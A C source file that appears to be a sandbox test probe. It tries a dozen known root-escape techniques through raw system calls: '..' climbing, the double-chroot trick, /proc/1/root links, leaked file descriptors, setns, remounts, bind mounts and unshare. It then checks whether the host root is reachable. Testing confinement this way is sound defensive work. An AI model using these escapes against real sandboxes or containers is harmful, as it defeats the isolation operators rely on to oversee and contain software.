/* Ways out of a root, each by the exact calls. */
#include "probe.h"

#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>

/* Whether a folder is the host's root: it has a file that the prepared root hasn't. */
static long at_host_root(int dirfd)
{
	long result = raw_call4(__NR_faccessat, dirfd, P("etc/passwd"), F_OK, 0);

	return result;
}

/* climb: "..", as often as any path is deep, from the working directory. */
static long climb(char **argv)
{
	(void)argv;
	for (int i = 0; i < 100; i++) {
		long result = raw_call1(__NR_chdir, P(".."));

		if (result < 0)
			return result;
	}
	return at_host_root(AT_FDCWD);
}

/* climb_openat2: the same in one path, from the root. */
static long climb_openat(char **argv)
{
	long fd = raw_call4(__NR_openat, AT_FDCWD, P("/../../../../../../../../../../../.."), O_PATH | O_DIRECTORY, 0);

	(void)argv;
	return fd < 0 ? fd : at_host_root((int)fd);
}

/* chroot_twice FOLDER: a fd of the root, chroot beneath it, fchdir to the fd, "..", chroot. */
static long chroot_twice(char **argv)
{
	long fd = raw_call4(__NR_openat, AT_FDCWD, P("/"), O_PATH | O_DIRECTORY, 0);
	long result = raw_call1(__NR_chroot, P(argv[0]));

	if (result < 0)
		return result;
	raw_call1(__NR_fchdir, fd);
	result = climb(argv);
	return result < 0 ? result : raw_call1(__NR_chroot, P("."));
}

/* proc_root PATH: /proc/1/root, /proc/1/cwd. */
static long proc_link(char **argv)
{
	long fd = raw_call4(__NR_openat, AT_FDCWD, P(argv[0]), O_PATH | O_DIRECTORY, 0);

	return fd < 0 ? fd : at_host_root((int)fd);
}

/* leaked: a fd other than 0, 1 and 2. */
static long leaked(char **argv)
{
	(void)argv;
	for (int fd = 3; fd < 4096; fd++) {
		if (raw_call3(__NR_fcntl, fd, F_GETFD, 0) >= 0)
			return 0;
	}
	return -EBADF;
}

/* stdio_up: ".." of stdin. */
static long stdio_up(char **argv)
{
	long fd = raw_call4(__NR_openat, 0, P(".."), O_PATH | O_DIRECTORY, 0);

	(void)argv;
	return fd < 0 ? fd : at_host_root((int)fd);
}

/* setns FILE FLAG: into the namespace of another process. */
static long setns_to(char **argv)
{
	long fd = raw_call4(__NR_openat, AT_FDCWD, P(argv[0]), O_RDONLY, 0);

	return fd < 0 ? fd : raw_call2(__NR_setns, fd, 0);
}

static long umount_it(char **argv)
{
	return raw_call2(__NR_umount2, P(argv[0]), MNT_DETACH);
}

static long remount_rw(char **argv)
{
	return raw_call5(__NR_mount, 0, P(argv[0]), 0, MS_REMOUNT | MS_BIND, 0);
}

static long mount_over(char **argv)
{
	return raw_call5(__NR_mount, P(argv[0]), P(argv[1]), 0, MS_BIND, 0);
}

static long new_user(char **argv)
{
	(void)argv;
	return raw_call1(__NR_unshare, CLONE_NEWUSER | CLONE_NEWNS);
}

static long write_open(char **argv)
{
	long fd = raw_call4(__NR_openat, AT_FDCWD, P(argv[0]), O_WRONLY, 0);

	return fd;
}

static const struct attempt attempts[] = {
	{ "climb", 0, climb },
	{ "climb_openat", 0, climb_openat },
	{ "chroot_twice", 1, chroot_twice },
	{ "proc_link", 1, proc_link },
	{ "leaked", 0, leaked },
	{ "stdio_up", 0, stdio_up },
	{ "setns", 1, setns_to },
	{ "umount", 1, umount_it },
	{ "remount_rw", 1, remount_rw },
	{ "mount_over", 2, mount_over },
	{ "new_user", 0, new_user },
	{ "write_open", 1, write_open },
	{ 0 },
};

PROBE(attempts)
